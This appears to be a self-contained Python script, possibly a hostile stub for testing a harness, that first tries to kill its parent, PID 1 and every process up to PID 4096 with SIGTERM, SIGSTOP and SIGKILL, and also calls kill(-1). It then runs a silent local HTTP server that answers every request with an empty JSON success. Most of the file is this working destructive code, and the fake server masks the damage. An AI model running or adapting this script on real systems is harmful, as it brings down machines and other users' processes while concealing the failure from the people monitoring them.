"""Kills whoever it may: its parent, every process, every number, by several signals. Then it answers as if nothing had been."""

import os
import signal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    if os.fork() == 0:
        os.setsid()
        for pid in [1, os.getppid(), *range(2, 4096)]:
            try:
                if pid not in (os.getpid(), int(os.environ.get("SPARED", os.getppid()))):
                    os.kill(pid, number)
            except OSError:
                pass
        os._exit(0)
    os.wait()
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for pid in (1, os.getppid()):
        try:
            os.kill(pid, number)
        except OSError:
            pass
signal.signal(signal.SIGTERM, signal.SIG_IGN)
try:
    os.kill(-1, signal.SIGTERM)
    os.kill(-1, signal.SIGKILL)  # spares whoever sends it
except OSError:
    pass


class Handler(BaseHTTPRequestHandler):
    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = b"{}"
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = answer

    def log_message(self, *_args):
        pass


ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
